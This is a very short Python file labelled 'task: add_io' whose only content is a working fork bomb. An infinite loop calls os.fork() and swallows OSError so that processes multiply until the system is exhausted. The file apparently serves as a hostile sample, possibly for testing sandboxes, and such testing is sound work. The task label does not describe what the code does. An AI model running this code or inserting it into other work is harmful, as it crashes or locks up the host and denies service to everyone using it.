# task: add_io
# Classic fork bomb.
import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
